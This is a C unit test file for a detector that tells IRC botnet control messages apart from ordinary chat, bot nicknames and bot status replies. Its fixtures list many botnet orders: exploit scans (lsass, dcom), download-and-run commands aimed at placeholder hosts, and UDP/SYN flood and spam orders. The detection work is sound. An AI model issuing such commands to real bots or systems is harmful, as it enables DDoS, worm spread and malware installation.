/* SPDX-License-Identifier: GPL-3.0-or-later */
/* irc_control: the grammar of orders and answers, and machine-made names, on what bots of many families and people in
 * channels with helpful bots really write. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "detect/irc_control_nick.h"
#include "detect/irc_control_order.h"

static struct slice slice(const char *text)
{
        return (struct slice){text, (uint32_t) strlen(text)};
}

static uint8_t grade(const char *text, const char *nick)
{
        struct irc_order o;
        uint32_t pos = 0;
        uint8_t best = IRC_ORDER_NONE;

        while (irc_order_next(slice(text), slice(nick), &pos, &o))
                best = MAX(best, o.grade);
        return best;
}

static void expect(const char *const *lines, size_t n, uint8_t least, uint8_t most)
{
        for (size_t i = 0; i < n; i++) {
                uint8_t g = grade(lines[i], "Bot|9277");

                if (g < least || g > most)
                        fail_msg("grade %u: %s", g, lines[i]);
        }
}

static void test_orders(void **state)
{
        static const char *const orders[] = {
                ".advscan lsass 100 5 0 -r",
                ".advscan asn1smb 200 5 0 -b -r -s",
                ".asc asn1smb 300 2 0 -r -s",
                ".asc dcom135 200 0 0 -r -s",
                ".dl http://host.example/x.exe y.exe 1",
                ".download http://198.51.100.9/x.exe c:\\x.exe 1 -s",
                "!get http://198.51.100.9/bot.exe",
                "* ipscan 220.0 dcom2 -s wormride",
                "* download http://host.example/w.exe -e -s ] [ * ipscan i.i.i.i mssql2000 -s ][ * wormride -s -t",
                "!ddos.syn 198.51.100.4 80 120",
                ".udp 198.51.100.4 10000 1024 10",
                "!* UDP 198.51.100.4 80 60",
                "Bot|9277: download http://host.example/x.exe x.exe",
                ".scan.start 10.0.x.x 445 100 -s",
                ".redirect 8080 irc.example.net 6667 1",
                ".http.update http://host.example/x.exe c:\\x.exe 1",
                "\"none\" | .advscan lsass 100 5 0 -r | .up",
                "@tcp 198.51.100.4 80 60 10",
                ".scan 192.168.0.1 192.168.255.255 445",
                "!bot @udpflood 198.51.100.4 65500 60",
                ".ftp.get 198.51.100.9 21 user pass x.exe",
                ".tftp 198.51.100.9 x.exe 1",
                ".redirect 25 198.51.100.9 25",
                ".spam start 198.51.100.9 25 1000",
                "!* PAN 198.51.100.4 80 120",
                ".m -s|.asc dcom 100 5 0 -r",
                "`scan 10.x.x.x 445 200",
        };

        (void) state;
        expect(orders, ELEMENTSOF(orders), IRC_ORDER_STRONG, IRC_ORDER_STRONG);
}

static void test_hints(void **state)
{
        static const char *const hints[] = {
                ".icmp 198.51.100.4 60",
                ".dl http://host.example/x.exe",
                "!port 198.51.100.4 80",
                "!server 198.51.100.4:27015 1 2",
                "!addserver 198.51.100.50:27015 5on5 24/7 900 EU pov",
                "!ping -c 5 198.51.100.4",
                "!nmap -p 80 host.example",
                "!kb 198.51.100.4 60 spam",
                "!get http://a.example/setup.exe",
                "!subnet 10.0.0.0 255.0.0.0",
                ".+bot leaf 198.51.100.9 3333",
        };
        static const char *const words[] = {".login pass", ".k teamall", "!seen bob", "!op alice"};

        (void) state;
        expect(hints, ELEMENTSOF(hints), IRC_ORDER_HINT, IRC_ORDER_HINT);
        expect(words, ELEMENTSOF(words), IRC_ORDER_WORD, IRC_ORDER_WORD);
}

static void test_people(void **state)
{
        static const char *const lines[] = {
                "",
                " ",
                ".",
                "!help",
                "!weather 10001",
                "!weather New York",
                "!calc 3 + 4 * 5",
                "!calc 2.5 * 17",
                "!roll 2 6",
                "!remind 10 30 feed the cat",
                "!title http://example.org/news/2024/index.html",
                "!yt how to fix a bicycle chain",
                "...and then I tried 10.0.0.1 but nothing answered",
                ".oO( why is port 80 open on 10.0.0.1? )",
                "!!!",
                "-1 for that idea, 3 of 5 people agree",
                "- 1 egg, 2 cups of flour, 3 spoons of sugar",
                "*** Looking up your hostname...",
                "** 5 packs ** 3 of 10 slots open, Record: 234.5KB/s",
                "#1 123x [1.2M] holiday-photos.tar",
                "alice: can you look at http://example.org/setup.exe please? it does not start here at all",
                "I run ./configure -s -r 100 5 0 and it fails",
                "download http://example.org/x.exe",
                "/msg NickServ IDENTIFY correct horse battery",
                "\x01"
                "ACTION .advscan lsass 100 5 0 -r\x01",
                "\x01"
                "DCC SEND photo.jpg 3232235777 5000 12345\x01",
                "it is 12:30 here, see you at 14:00 on channel 5",
                "@search some author - some book",
                "~tell bob that the server is back up again, took us 3 hours",
                "?ping",
                "+1 http://example.org",
                "$100 says 4 of the 5 disks in 10.0.0.3 are dead",
                ":-) 3 2 1 go",
                "!connect 198.51.100.4:27015 secret",
                "!ban *!*@198.51.100.* 60 flooding",
                "!roll 4d6 -d 1 + 2",
                "!gps 50.110 8.682",
                "!convert 100 usd eur",
                ".w 50.1 8.6",
                "!build -r 812 master",
                "!join 198.51.100.50:27015;password secret",
                "!short http://a.example/b/c.html",
                "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e .dl http://host.example/x.exe y.exe 1",
        };

        (void) state;
        expect(lines, ELEMENTSOF(lines), IRC_ORDER_NONE, IRC_ORDER_WORD);
}

static void test_parts(void **state)
{
        struct irc_order o;
        uint32_t pos = 0;
        struct addr a;
        struct slice text = slice("* ipscan 220.0 dcom2 -s wormride | .udp 198.51.100.4:53 100 5 | .dl "
                                  "http://u:p@Host.Example:8080/a/X.exe c:\\dir\\y.exe 1");

        (void) state;
        assert_true(irc_order_next(text, slice(""), &pos, &o));
        assert_true(o.has_range && !o.has_target && !o.has_url);
        assert_int_equal(o.n_range, 2);
        assert_int_equal(o.range[0], 220);
        assert_int_equal(o.range[1], 0);
        assert_int_equal(o.text.len, strlen("* ipscan 220.0 dcom2 -s wormride"));

        assert_true(irc_order_next(text, slice(""), &pos, &o));
        assert_int_equal(addr_parse("198.51.100.4", &a), 0);
        assert_true(o.has_target && addr_equal(&a, &o.target));
        assert_int_equal(o.ports[0], 53);

        assert_true(irc_order_next(text, slice(""), &pos, &o));
        assert_true(o.has_url && o.url.program && !o.url.address && !o.url.tls);
        assert_int_equal(o.url.port, 8080);
        assert_memory_equal(o.url.host.p, "Host.Example", o.url.host.len);
        assert_memory_equal(o.url.path.p, "/a/X.exe", o.url.path.len);
        assert_int_equal(irc_order_hash(o.url.host), irc_order_hash(slice("host.example")));
        assert_memory_equal(o.file.p, "y.exe", o.file.len);
        assert_false(irc_order_next(text, slice(""), &pos, &o));
}

static void test_ranges(void **state)
{
        static const struct {
                const char *text;
                unsigned prefix;
        } ranges[] = {{".scan 10.0.0.0/8 445 100 -s", 1}, {".scan 10.1.x.x 445 100 -s", 2},
                      {".scan 10.1.2.* 445 100 -s", 3},   {".scan i.i.i.i 445 100 -s", 0},
                      {".scan 192.168 445 100 -s", 2},    {".scan 192.168.0.1 192.168.255.255 445", 2}};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(ranges); i++) {
                struct irc_order o;
                uint32_t pos = 0;

                assert_true(irc_order_next(slice(ranges[i].text), slice(""), &pos, &o));
                assert_true(o.has_range && !o.has_target);
                assert_int_equal(o.n_range, ranges[i].prefix);
        }
}

static void test_answers(void **state)
{
        static const char *const answers[] = {
                "[SCAN]: Already 301 scanning threads. Too many specified.",
                "[DOWNLOAD]: Downloaded 170.0 KB to aaaananz4.exe @ 170.0 KB/sec.",
                "[MAIN]: Password accepted.",
                "-[SCAN]: Random port scan started on 10.0.x.x:445",
                "{FLOOD}: done",
        };
        static const char *const others[] = {
                "",      "[",          "[]:",   "[SCAN]",        "[SCAN]:",        "[github] alice pushed 3 commits",
                "[x]:y", "[BBC] News", "(hi):", "[SCAN SCAN",    "well [SCAN]: x", "[a long sentence in brackets]: x",
                "\x01",  ":)",         "[[[[:", "[12:30] Bob: x"};
        struct slice tag;

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(answers); i++)
                if (!irc_order_is_answer(slice(answers[i]), &tag) || tag.len < 4)
                        fail_msg("no answer: %s", answers[i]);
        for (size_t i = 0; i < ELEMENTSOF(others); i++)
                if (irc_order_is_answer(slice(others[i]), &tag))
                        fail_msg("answer: %s", others[i]);
}

static void test_prose(void **state)
{
        static const char *const prose[] = {"hello everybody, how are you today?",
                                            ("\x01"
                                             "ACTION waves at the whole channel\x01"),
                                            "\xe3\x81\x93\xe3\x82\x93\xe3\x81\xab\xe3\x81\xa1\xe3\x81\xaf",
                                            "no idea, ask in the other channel"};
        static const char *const others[] = {"", "ok", "[SCAN]: it is done now", ".advscan lsass 100 5 0 -r",
                                             "Slave X1 reporting, proxy - 2 , IPv4 address is 192.0.2.3 . ."};

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(prose); i++)
                assert_true(irc_order_is_prose(slice(prose[i])));
        for (size_t i = 0; i < ELEMENTSOF(others); i++)
                assert_false(irc_order_is_prose(slice(others[i])));
}

static void test_skeletons(void **state)
{
        struct irc_skeleton a, b, c;

        (void) state;
        irc_order_skeleton(slice("Slave Paul reporting, proxy - 2 , IPv4 address is 169.254.204.183 . ."),
                           slice("PAUL"), &a);
        irc_order_skeleton(slice("Slave sexp-ote.example.com reporting, proxy - 3 , IPv4 address is 10.2.2.2 . ."),
                           slice("SEXP-OTE"), &b);
        irc_order_skeleton(slice("Slave driver needed, 2 hours, my address is 10.2.2.2"), slice("SEXP"), &c);
        assert_true(a.hash == b.hash && a.has_address && b.has_address);
        assert_true(a.hash != c.hash);
}

static void test_nicks(void **state)
{
        static const struct {
                const char *nick;
                uint8_t class;
                const char *pattern;
        } nicks[] = {
                {"Bot|9277", IRC_NICK_FIELDS, "Aaa|9"},
                {"JPN|425015894", IRC_NICK_FIELDS, "AAA|9"},
                {"[XP|USA|123456]", IRC_NICK_FIELDS, "[AA|AAA|9]"},
                {"[XP|DEU|987]4471", IRC_NICK_FIELDS, "[AA|AAA|9]9"},
                {"{USA}{W7}55512", IRC_NICK_FIELDS, "{AAA}{AA}9"},
                {"[x]IqRkpiH", IRC_NICK_RANDOM, "[x]a7"},
                {"yscxhz", IRC_NICK_RANDOM, "a6"},
                {"mteubrfprba", IRC_NICK_RANDOM, "a11"},
                {"qzxkrtpl22", IRC_NICK_RANDOM, "a89"},
                {"Guest48213", IRC_NICK_NUMBERED, "Guest9"},
                {"student_20231234", IRC_NICK_FIELDS, "student_9"},
                {"Bob-1984", IRC_NICK_PERSON, NULL},
                {"SaBeR", IRC_NICK_PERSON, NULL},
                {"DaRkLoRd", IRC_NICK_PERSON, NULL},
                {"anna2004", IRC_NICK_PERSON, NULL},
                {"kim|1990", IRC_NICK_PERSON, NULL},
                {"mib_4f", IRC_NICK_PERSON, NULL},
                {"alice", IRC_NICK_PERSON, NULL},
                {"bob_away", IRC_NICK_PERSON, NULL},
                {"Charly77", IRC_NICK_PERSON, NULL},
                {"[CLAN]Rex", IRC_NICK_PERSON, NULL},
                {"JohnMcLane", IRC_NICK_PERSON, NULL},
                {"h4x0r", IRC_NICK_PERSON, NULL},
                {"kde|sebas", IRC_NICK_PERSON, NULL},
                {"schmidt", IRC_NICK_PERSON, NULL},
                {"molochtest", IRC_NICK_PERSON, NULL},
                {"CHALLENGER", IRC_NICK_PERSON, NULL},
                {"", IRC_NICK_PERSON, NULL},
                {"_", IRC_NICK_PERSON, NULL},
        };

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(nicks); i++) {
                struct irc_nick n;

                irc_nick_look(slice(nicks[i].nick), &n);
                if (i == 0)
                        assert_int_equal(n.lead, 927);
                if (n.class != nicks[i].class)
                        fail_msg("%s: class %u", nicks[i].nick, n.class);
                if (nicks[i].pattern)
                        assert_string_equal(n.pattern, nicks[i].pattern);
        }
}

static void test_clean(void **state)
{
        char out[IRC_TEXT_MAX];
        struct slice text = slice("\x02.dl\x0f \x03"
                                  "4,12http://h/x.exe\x03 1\x03"
                                  "4");
        uint32_t n = irc_order_clean(text, out);

        (void) state;
        assert_int_equal(n, strlen(".dl http://h/x.exe 1"));
        assert_memory_equal(out, ".dl http://h/x.exe 1", n);
}

/* Any bytes: nothing is read beyond, every call moves on, and slices lie within. */
static void test_hostile(void **state)
{
        static const char alphabet[] = ".!*@-[]|:/ \x01\x03"
                                       "0123456789xie.exehttp://\xff\0";
        unsigned seed = 1;

        (void) state;
        for (int i = 0; i < 20000; i++) {
                uint32_t len = (uint32_t) (rand_r(&seed) % 600), pos = 0, rounds = 0;
                char *text = malloc(len + 1), out[IRC_TEXT_MAX];
                struct irc_order o;
                struct irc_skeleton k;
                struct irc_nick nick;
                struct irc_url u;
                struct slice s = {text, len}, tag;

                assert_non_null(text);
                for (uint32_t b = 0; b < len; b++)
                        text[b] = rand_r(&seed) % 3 ? alphabet[(size_t) rand_r(&seed) % sizeof(alphabet)] :
                                                      (char) rand_r(&seed);
                text = realloc(text, len ? len : 1);
                assert_non_null(text);
                s.p = text;
                assert_true(irc_order_clean(s, out) <= IRC_TEXT_MAX);
                while (irc_order_next(s, slice("bot"), &pos, &o)) {
                        assert_true(++rounds <= len && pos <= len);
                        assert_true(o.text.p >= text && o.text.p + o.text.len <= text + len);
                }
                for (pos = 0, rounds = 0; irc_order_url(s, &pos, &u);)
                        assert_true(++rounds <= len && u.whole.p + u.whole.len <= text + len);
                (void) irc_order_is_answer(s, &tag);
                (void) irc_order_is_prose(s);
                irc_order_skeleton(s, slice("bot"), &k);
                irc_nick_look(s, &nick);
                assert_true(strlen(nick.pattern) < IRC_NICK_MAX);
                free(text);
        }
}

static void test_urls(void **state)
{
        static const struct {
                const char *text, *host, *path;
                unsigned port;
                bool address;
        } urls[] = {
                {"http://host.example/x.exe", "host.example", "/x.exe", 0, false},
                {"see http://host.example:8080/a?b=1, now", "host.example", "/a?b=1", 8080, false},
                {"http://198.51.100.9:81/x.exe 1", "198.51.100.9", "/x.exe", 81, true},
                {"ftp://u:p@198.51.100.9/x.exe", "198.51.100.9", "/x.exe", 0, true},
                {"http://[2001:db8::9]:8080/x.exe", "2001:db8::9", "/x.exe", 8080, true},
                {"http://[2001:db8::9]/x.exe", "2001:db8::9", "/x.exe", 0, true},
                {"http://host.example:99999/", "host.example", "/", 0, false},
                {"http://host.example:/", "host.example", "/", 0, false},
                {"http://[2001:db8::9/x.exe", "[2001:db8::9", "/x.exe", 0, true},
        };

        (void) state;
        for (size_t i = 0; i < ELEMENTSOF(urls); i++) {
                struct irc_url u;
                uint32_t pos = 0;

                assert_true(irc_order_url(slice(urls[i].text), &pos, &u));
                assert_int_equal(u.host.len, strlen(urls[i].host));
                assert_memory_equal(u.host.p, urls[i].host, u.host.len);
                assert_int_equal(u.path.len, strlen(urls[i].path));
                assert_memory_equal(u.path.p, urls[i].path, u.path.len);
                assert_int_equal(u.port, urls[i].port);
                assert_int_equal(u.address, urls[i].address);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_orders), cmocka_unit_test(test_hints),     cmocka_unit_test(test_people),
                cmocka_unit_test(test_parts),  cmocka_unit_test(test_ranges),    cmocka_unit_test(test_answers),
                cmocka_unit_test(test_prose),  cmocka_unit_test(test_skeletons), cmocka_unit_test(test_nicks),
                cmocka_unit_test(test_clean),  cmocka_unit_test(test_hostile),   cmocka_unit_test(test_urls),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
